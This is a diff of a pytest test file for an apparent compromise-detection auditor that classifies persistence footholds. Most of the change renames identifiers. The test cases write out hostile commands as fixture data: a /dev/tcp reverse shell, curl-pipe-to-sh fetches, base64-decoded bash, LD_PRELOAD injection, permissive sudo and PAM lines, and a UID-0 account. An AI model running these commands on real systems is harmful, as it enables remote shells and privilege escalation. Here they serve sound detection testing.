@@ -12,9 +12,9 @@ from typing import Any, get_args
 import pytest
 
 from auditor.compromise import footholds, places, signs
-from auditor.compromise.listing import BadListing
-from auditor.compromise.places import Place, Slot
-from auditor.looks.gathered import merged
+from auditor.compromise.listing import ListingError
+from auditor.compromise.places import Autorun, Slot
+from auditor.looks.gathered import merge_traces
 from auditor.looks.traces import key_of
 from auditor.models import Trace
 from auditor.models.hunts import KINDS, OUTSIDE
@@ -23,13 +23,13 @@ from auditor.models.reviews import MAX_RULES
 SHM, TMP = "/dev/shm/x", "/tmp/x"  # noqa: S108 - never opened
 
 
-def place(slot: Slot, said: str = "", *marks: str, **changes: Any) -> Place:
-    told = {"slot": slot, "where": "/etc/x", "who": "root", "standing": "foreign", "said": said}
-    return Place(**{**told, "marks": frozenset(marks), "programs": (), **changes})
+def place(slot: Slot, said: str = "", *marks: str, **changes: Any) -> Autorun:
+    told = {"slot": slot, "where": "/etc/x", "who": "root", "package_status": "foreign", "text": said}
+    return Autorun(**{**told, "marks": frozenset(marks), "programs": (), **changes})
 
 
-def told(one: Place, before: tuple[str, ...] | None = None) -> tuple[str, str, tuple[str, ...]] | None:
-    found = footholds.found([one], before)
+def told(one: Autorun, before: tuple[str, ...] | None = None) -> tuple[str, str, tuple[str, ...]] | None:
+    found = footholds.find_traces([one], before)
     return (found[0].kind, found[0].certainty, found[0].rules) if found else None
 
 
@@ -39,7 +39,7 @@ def told(one: Place, before: tuple[str, ...] | None = None) -> tuple[str, str, t
         (place("cron", "* bash -i >& /dev/tcp/192.0.2.9/443 0>&1"), "exact", "connects_back"),
         (place("cron", "echo aGk= | base64 -d | bash"), "exact", "runs_decoded"),
         (place("unit", "curl -s http://192.0.2.9/x | sh"), "strong", "runs_fetched"),
-        (place("start", "export LD_PRELOAD=/usr/lib/x.so", standing="packaged"), "strong", "preloads"),
+        (place("start", "export LD_PRELOAD=/usr/lib/x.so", package_status="packaged"), "strong", "preloads"),
         (place("hook", 'RUN+="/dev/shm/x"', programs=((SHM, "foreign"),)), "strong", "runs_temporary"),
         (place("cron", "/usr/share/.x/y", programs=(("/usr/share/.x/y", "foreign"),)), "strong", "runs_hidden"),
         (place("cron", "/opt/app/run"), "weak", "foreign"),
@@ -49,21 +49,21 @@ def told(one: Place, before: tuple[str, ...] | None = None) -> tuple[str, str, t
         (place("key", "ssh-ed25519 SHA256:x", "service"), "strong", "key_of_service"),
         (place("key", "ssh-ed25519 SHA256:x", "root"), "weak", "key"),
         (place("sudo", "www-data ALL=(ALL) NOPASSWD: ALL", "service", who="www-data"), "strong", "service_may"),
-        (place("sshd", "authorizedkeysfile /dev/shm/k", standing="packaged"), "strong", "keys_elsewhere"),
+        (place("sshd", "authorizedkeysfile /dev/shm/k", package_status="packaged"), "strong", "keys_elsewhere"),
         (place("pam", "auth sufficient pam_permit.so", "opens"), "exact", "login_lets_all"),
         (place("order", "POST", where="/var/www/a/uploads/x.php"), "weak", "posted_to"),
         (place("order", "POST", "unexplained", where="/var/www/a/uploads/x.php"), "strong", "posted_to"),
-        (place("order", "POST", standing="gone", where="/uploads/x.php"), "weak", "posted_to_gone"),
+        (place("order", "POST", package_status="gone", where="/uploads/x.php"), "weak", "posted_to_gone"),
         (place("log", "2", "blanked", where="/var/log/wtmp"), "weak", "blanked"),
-        (place("process", "php", "calls_out", where="/usr/bin/php8.4", standing="packaged"), "weak", "calls_out"),
+        (place("process", "php", "calls_out", where="/usr/bin/php8.4", package_status="packaged"), "weak", "calls_out"),
         (place("pam_module", ""), "strong", "foreign"),
         (place("preload", "/usr/lib/x.so"), "exact", "preloaded"),
-        (place("preload", "/usr/lib/x.so", standing="packaged"), "weak", "preloaded"),
+        (place("preload", "/usr/lib/x.so", package_status="packaged"), "weak", "preloaded"),
         (place("php", "auto_prepend_file=/tmp/x", programs=((TMP, "foreign"),)), "strong", "prepends_odd"),
         (place("php_module", "extension=/usr/local/x.so"), "strong", "foreign"),
         (place("database", "x.so", "function"), "strong", "foreign_function"),
         (
-            place("database", "SELECT 1 INTO OUTFILE '/srv/x.php'", "event", standing="packaged"),
+            place("database", "SELECT 1 INTO OUTFILE '/srv/x.php'", "event", package_status="packaged"),
             "strong",
             "writes_from_sql",
         ),
@@ -72,37 +72,41 @@ def told(one: Place, before: tuple[str, ...] | None = None) -> tuple[str, str, t
         (place("setuid", "0o4755", "setuid", "other_system", where="/srv/root/usr/bin/su"), "weak", "foreign"),
         (place("setuid", "0o4755", "setuid", "shell", where="/opt/app/x"), "exact", "shell_of_root"),
         (
-            place("setuid", "", "capabilities", where="/usr/bin/python3.13", standing="packaged"),
+            place("setuid", "", "capabilities", where="/usr/bin/python3.13", package_status="packaged"),
             "strong",
             "interpreter_of_root",
         ),
-        (place("program", standing="changed"), "strong", "changed"),
-        (place("process", "", "memory", where="/memfd:x", standing="gone"), "strong", "from_memory"),
+        (place("program", package_status="changed"), "strong", "changed"),
+        (place("process", "", "memory", where="/memfd:x", package_status="gone"), "strong", "from_memory"),
         (place("process", "[kworker/0:1]", "as_kernel", where="/opt/x"), "exact", "poses_as_kernel"),
         (place("process", "x", "disguised", where="/usr/bin/env"), "strong", "disguised"),
         (place("process", "", where=SHM), "strong", "from_temporary"),
         (place("process", "", where="/opt/app/x"), "weak", "foreign"),
         (
-            place("process", "", "shell_on_socket", where="/usr/bin/bash", standing="packaged"),
+            place("process", "", "shell_on_socket", where="/usr/bin/bash", package_status="packaged"),
             "exact",
             "shell_on_socket",
         ),
         (place("listener", "tcp *:4444"), "weak", "foreign"),
-        (place("listener", "tcp *:1", "interpreter", standing="packaged"), "weak", "interpreter_listens"),
-        (place("listener", "tcp *:1", "interpreter", "inline", standing="packaged"), "strong", "interpreter_listens"),
-        (place("process", "", "web_account", standing="packaged"), "strong", "shell_of_web"),
-        (place("process", "", "web_account", "command", standing="packaged"), "weak", "shell_of_web"),
+        (place("listener", "tcp *:1", "interpreter", package_status="packaged"), "weak", "interpreter_listens"),
+        (
+            place("listener", "tcp *:1", "interpreter", "inline", package_status="packaged"),
+            "strong",
+            "interpreter_listens",
+        ),
+        (place("process", "", "web_account", package_status="packaged"), "strong", "shell_of_web"),
+        (place("process", "", "web_account", "command", package_status="packaged"), "weak", "shell_of_web"),
         (place("listener", "packets", "packets"), "strong", "reads_packets"),
         (place("kernel_module", "", "loaded"), "strong", "loaded"),
         (place("kernel_module", "", "loaded", "dkms"), "weak", "loaded"),
-        (place("kernel_module", "", "loaded", standing="changed"), "strong", "changed"),
+        (place("kernel_module", "", "loaded", package_status="changed"), "strong", "changed"),
         (place("kernel_module", "", "loaded", "other_than_file"), "strong", "other_than_file"),
-        (place("kernel_module", "", "loaded", "hidden", standing="gone"), "exact", "hidden_module"),
+        (place("kernel_module", "", "loaded", "hidden", package_status="gone"), "exact", "hidden_module"),
         (place("temporary", "", "elf", "executable", "hidden"), "strong", "hidden_program"),
         (place("temporary", "", "script", "executable"), "weak", "program"),
     ],
 )
-def test_each_foothold_is_told_for_what_it_is(one: Place, sure: str, rule: str) -> None:
+def test_each_foothold_is_told_for_what_it_is(one: Autorun, sure: str, rule: str) -> None:
     found = told(one)
     assert found is not None
     assert (found[0], found[1]) == (KINDS[one.slot], sure)
@@ -112,18 +116,18 @@ def test_each_foothold_is_told_for_what_it_is(one: Place, sure: str, rule: str) 
 @pytest.mark.parametrize(
     "one",
     [
-        place("start", "alias sudo='sudo '\nexport EDITOR=vim", standing="packaged"),
-        place("cron", "cd / && run-parts --report /etc/cron.hourly", standing="changed"),
-        place("account", "33 /usr/sbin/nologin", "service", standing="packaged"),
-        place("account", "1000 /bin/bash", "shell", "password", "root", standing="packaged"),
-        place("account", "1001 /bin/bash", "shell", "no_password", standing="packaged"),
-        place("sshd", "authorizedkeysfile .ssh/authorized_keys /etc/ssh/keys/%u", standing="packaged"),
+        place("start", "alias sudo='sudo '\nexport EDITOR=vim", package_status="packaged"),
+        place("cron", "cd / && run-parts --report /etc/cron.hourly", package_status="changed"),
+        place("account", "33 /usr/sbin/nologin", "service", package_status="packaged"),
+        place("account", "1000 /bin/bash", "shell", "password", "root", package_status="packaged"),
+        place("account", "1001 /bin/bash", "shell", "no_password", package_status="packaged"),
+        place("sshd", "authorizedkeysfile .ssh/authorized_keys /etc/ssh/keys/%u", package_status="packaged"),
         place("hook", "net.ipv4.ip_forward = 0", "settings"),
-        place("database", "UPDATE counters SET n = n + 1", "event", standing="packaged"),
-        place("hook", 'DPkg::Post-Invoke { "curl -s http://x/y > /var/log/y"; };', standing="packaged"),
+        place("database", "UPDATE counters SET n = n + 1", "event", package_status="packaged"),
+        place("hook", 'DPkg::Post-Invoke { "curl -s http://x/y > /var/log/y"; };', package_status="packaged"),
     ],
 )
-def test_what_administrators_write_is_no_trace(one: Place) -> None:
+def test_what_administrators_write_is_no_trace(one: Autorun) -> None:
     assert told(one) is None
 
 
@@ -139,7 +143,7 @@ def test_what_administrators_write_is_no_trace(one: Place) -> None:
     ],
 )
 def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
-    assert list(signs.in_text(line)) == []
+    assert list(signs.find_signs(line)) == []
 
 
 @pytest.mark.parametrize(
@@ -152,7 +156,7 @@ def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
     ],
 )
 def test_no_part_of_a_secret_is_shown(line: str) -> None:
-    (trace,) = footholds.found([place("cron", line)])
+    (trace,) = footholds.find_traces([place("cron", line)])
     assert "S3cret" not in trace.sample
     assert "Pw" not in trace.sample.replace("PGPASSWORD", "")
 
@@ -160,11 +164,11 @@ def test_no_part_of_a_secret_is_shown(line: str) -> None:
 def test_a_text_made_to_hurt_costs_no_more_than_its_length() -> None:
     began = time.process_time()
     for piece in ("curl ", "base64 |", "socket ", "sh $(", "/a", "eval ", "nc -", "export LD_PRELOAD ", "alias "):
-        list(signs.in_text(piece * (20_000 // len(piece))))
-        list(signs.in_text("\n".join([piece * 50] * 60)))
-        signs.odd(piece * 200)
+        list(signs.find_signs(piece * (20_000 // len(piece))))
+        list(signs.find_signs("\n".join([piece * 50] * 60)))
+        signs.classify_odd_path(piece * 200)
     for piece in ("base64 ", "curl && "):
-        list(signs.in_text("\n".join([piece * 600] * 40)))
+        list(signs.find_signs("\n".join([piece * 600] * 40)))
     assert time.process_time() - began < 5
 
 
@@ -173,11 +177,11 @@ def test_a_key_of_root_that_was_not_there_before_is_an_alarm_and_any_other_news_
     assert told(key, ()) == ("key", "strong", ("key", "new"))
     assert told(job, ()) == ("job", "weak", ("foreign", "new"))
     news = place("cms_account", who="a", where="/srv/www"), place("cms_account", "", "read", who="", where="/srv/www")
-    assert told(news[0], footholds.keys(news[1:])) == ("account", "strong", ("administrator", "new"))
-    assert told(news[0], footholds.keys(news)) == ("account", "weak", ("administrator",))
+    assert told(news[0], footholds.collect_keys(news[1:])) == ("account", "strong", ("administrator", "new"))
+    assert told(news[0], footholds.collect_keys(news)) == ("account", "weak", ("administrator",))
     assert told(news[0], ()) == ("account", "weak", ("administrator", "new"))
     assert told(news[1], ()) is None
-    (trace,) = footholds.found([key])
+    (trace,) = footholds.find_traces([key])
     assert told(key, (trace.key,)) == ("key", "weak", ("key",))
     assert trace.key == key_of("key", "key\n/etc/x\nroot\nssh-ed25519 SHA256:x")
 
@@ -185,11 +189,11 @@ def test_a_key_of_root_that_was_not_there_before_is_an_alarm_and_any_other_news_
 def test_an_administrator_of_days_is_an_alarm_beside_another_and_stays_one_until_accepted() -> None:
     tables = place("cms_account", "", "read", who="", where="/srv/www")
     made = place("cms_account", "", "of_days", who="a", where="/srv/www")
-    (weak,) = footholds.found([tables, made])
+    (weak,) = footholds.find_traces([tables, made])
     assert (weak.certainty, weak.rules) == ("weak", ("administrator", "administrator_of_days"))
 
     def beside(where: str) -> Trace:
-        (alarm,) = footholds.found([place("setuid", "", "shell", where=where)])
+        (alarm,) = footholds.find_traces([place("setuid", "", "shell", where=where)])
         assert alarm.certainty == "exact"
         (told,) = footholds.with_new_administrators([weak], [alarm])
         return told
@@ -197,7 +201,7 @@ def test_an_administrator_of_days_is_an_alarm_beside_another_and_stays_one_until
     assert beside("/srv/www2/x").certainty == "weak"
     alarming = beside("/srv/www/x")
     assert alarming.certainty == "strong"
-    before = tuple(footholds.no_news([tables, made], [alarming]))
+    before = tuple(footholds.select_known_keys([tables, made], [alarming]))
     assert told(place("cms_account", who="a", where="/srv/www"), before) == (
         "account",
         "strong",
@@ -208,10 +212,10 @@ def test_an_administrator_of_days_is_an_alarm_beside_another_and_stays_one_until
 def test_a_key_that_an_administrator_has_too_is_not_told_as_what_is_to_be_refused() -> None:
     """Whoever may write a service's folder may lay any public key there."""
     planted = place("key", "ssh-ed25519 SHA256:x", "service", where="/var/www/.ssh/authorized_keys", exactly="SHA256:x")
-    (alone,) = footholds.found([planted])
+    (alone,) = footholds.find_traces([planted])
     assert (alone.certainty, alone.exactly) == ("strong", "SHA256:x")
     theirs = place("key", "ssh-ed25519 SHA256:x", "root", exactly="SHA256:x")
-    assert [(one.certainty, one.exactly) for one in footholds.found([planted, theirs])] == [
+    assert [(one.certainty, one.exactly) for one in footholds.find_traces([planted, theirs])] == [
         ("strong", ""),
         ("weak", ""),
     ]
@@ -219,8 +223,8 @@ def test_a_key_that_an_administrator_has_too_is_not_told_as_what_is_to_be_refuse
 
 def test_what_tells_it_from_all_else_is_told_of_all_that_are_one_trace_or_not_at_all() -> None:
     def told_of(*exactly: str) -> str:
-        there = [place("process", "x", "deleted", where=TMP, standing="gone", exactly=one) for one in exactly]
-        return merged(footholds.found(there))[0].exactly
+        there = [place("process", "x", "deleted", where=TMP, package_status="gone", exactly=one) for one in exactly]
+        return merge_traces(footholds.find_traces(there))[0].exactly
 
     assert told_of("7", "9", "7") == "7 9"
     assert told_of("7", "") == told_of("", "7") == told_of("7\n") == told_of(*map(str, range(90))) == ""
@@ -228,24 +232,24 @@ def test_what_tells_it_from_all_else_is_told_of_all_that_are_one_trace_or_not_at
 
 def test_where_something_lies_is_written_so_that_it_can_be_acted_on() -> None:
     one = place("temporary", "", "elf", where="/var/a\n\udcff0912345678.x", who="\ud800")
-    assert footholds.found([one])[0].where == "/var/a%0A%FF0912345678.x (?)"
+    assert footholds.find_traces([one])[0].where == "/var/a%0A%FF0912345678.x (?)"
 
 
 def test_a_new_key_of_root_is_news_until_it_is_accepted_or_gone() -> None:
     before: frozenset[str] = frozenset()
     there = [place("key", "ssh-ed25519 SHA256:x", "root"), place("cron", "/opt/app/run")]
     for _ in range(3):
-        traces = footholds.found(there, before)
+        traces = footholds.find_traces(there, before)
         assert [(one.kind, one.certainty) for one in traces] == [("key", "strong"), ("job", "weak")]
-        before = footholds.no_news(there, traces)
-    assert before == footholds.keys(there[1:])
-    first = footholds.found(there, None)
-    assert footholds.no_news(there, first) == footholds.keys(there)
+        before = footholds.select_known_keys(there, traces)
+    assert before == footholds.collect_keys(there[1:])
+    first = footholds.find_traces(there, None)
+    assert footholds.select_known_keys(there, first) == footholds.collect_keys(there)
 
 
 def test_what_a_process_calls_itself_makes_no_other_trace_of_it() -> None:
     first, second = (place("process", title, "mapped", where="/usr/sbin/sshd") for title in ("sshd: a", "sshd: b"))
-    assert footholds.keys([first]) == footholds.keys([second])
+    assert footholds.collect_keys([first]) == footholds.collect_keys([second])
 
 
 def test_every_slot_has_a_kind_that_controls_ask_for() -> None:
@@ -275,7 +279,7 @@ def deflated(told: bytes) -> str:
         "????",
         said(rows=[row(slot="x")]),
         said(rows=[row(where="ă")]),
-        said(rows=[row(standing="fine")]),
+        said(rows=[row(package_status="fine")]),
         said(rows=[row(said="x" * 30_000)]),
         said(rows=[row(marks=["A"])]),
         said(rows=[row(programs=[["/x"]])]),
@@ -295,16 +299,18 @@ def deflated(told: bytes) -> str:
     ids=lambda text: str(text)[:12],
 )
 def test_a_host_that_answers_with_nonsense_is_not_believed(text: object) -> None:
-    with pytest.raises(BadListing):
-        places.places(text)
+    with pytest.raises(ListingError):
+        places.parse_autoruns(text)
 
 
 def test_places_are_taken_in_as_they_were_said() -> None:
-    found = places.places(said(rows=[row(where="/etc/a\n\xff", marks=["setuid"])], cut_short=["files", "files"]))
+    found = places.parse_autoruns(
+        said(rows=[row(where="/etc/a\n\xff", marks=["setuid"])], cut_short=["files", "files"])
+    )
     assert found.all[0].where == "/etc/a\n\udcff"
     assert found.all[0].marks == {"setuid"}
     assert found.cut_short == ("files",)
-    (trace,) = footholds.found(found.all)
+    (trace,) = footholds.find_traces(found.all)
     assert "\n" not in trace.where
 
 
@@ -323,9 +329,9 @@ def digests(*lines: str) -> str:
         (place("cron", "curl https://x.example | sh"), 0),
     ],
 )
-def test_a_line_of_settings_is_told_by_its_digest(one: Place, lines: int) -> None:
-    (found,) = footholds.found([one])
-    assert found.exactly == (digests(one.said) if lines else "")
+def test_a_line_of_settings_is_told_by_its_digest(one: Autorun, lines: int) -> None:
+    (found,) = footholds.find_traces([one])
+    assert found.exactly == (digests(one.text) if lines else "")
 
 
 def test_of_a_script_the_lines_are_told_that_say_something() -> None:
@@ -333,27 +339,27 @@ def test_of_a_script_the_lines_are_told_that_say_something() -> None:
     one = place(
         "start", "\n".join(["alias x=y", *bad, "umask 022"]), programs=((SHM, "foreign"), ("/opt/y", "foreign"))
     )
-    (found,) = footholds.found([one])
+    (found,) = footholds.find_traces([one])
     assert found.exactly == digests(*bad)
 
 
 def test_more_lines_than_a_trace_has_room_for_are_told_by_none() -> None:
     one = place("hook", "\n".join(f"curl https://x.example/{n} | sh" for n in range(5)))
-    (found,) = footholds.found([one])
+    (found,) = footholds.find_traces([one])
     assert found.exactly == ""
 
 
 def test_however_many_rules_there_are_it_is_told_how_the_thing_stands_to_packages() -> None:
     said = "curl https://x.example | sh; chmod 4755 /x; useradd -o -u 0 x; echo x >> authorized_keys; LD_PRELOAD=/x y"
-    (found,) = footholds.found([place("unit", said, "replaces")])
+    (found,) = footholds.find_traces([place("unit", said, "replaces")])
     assert len(found.rules) == MAX_RULES
     assert {"foreign", "replaces_unit"} < set(found.rules)
 
 
 def test_what_a_package_brought_and_somebody_changed_is_told_so_beside_what_it_says() -> None:
-    (found,) = footholds.found([place("start", "curl https://x.example | sh", standing="changed")])
+    (found,) = footholds.find_traces([place("start", "curl https://x.example | sh", package_status="changed")])
     assert found.rules == ("runs_fetched", "changed")
-    assert footholds.found([place("start", "umask 022", standing="changed")]) == ()
+    assert footholds.find_traces([place("start", "umask 022", package_status="changed")]) == ()
 
 
 def test_a_pool_that_is_called_www_prepends_no_less() -> None:
@@ -371,7 +377,7 @@ def test_a_pool_that_is_called_www_prepends_no_less() -> None:
     ],
 )
 def test_a_name_that_ends_as_if_it_said_whose_it_is_is_no_other_s(slot: Slot, path: str, who: str) -> None:
-    one = place(slot, "curl http://x.example | sh", "setuid", where=path, who=who, standing="foreign")
-    (trace,) = footholds.found([one])
+    one = place(slot, "curl http://x.example | sh", "setuid", where=path, who=who, package_status="foreign")
+    (trace,) = footholds.find_traces([one])
     assert footholds.path_of(trace.kind, trace.where) == path
     assert footholds.owner_of(trace.kind, trace.where) == who
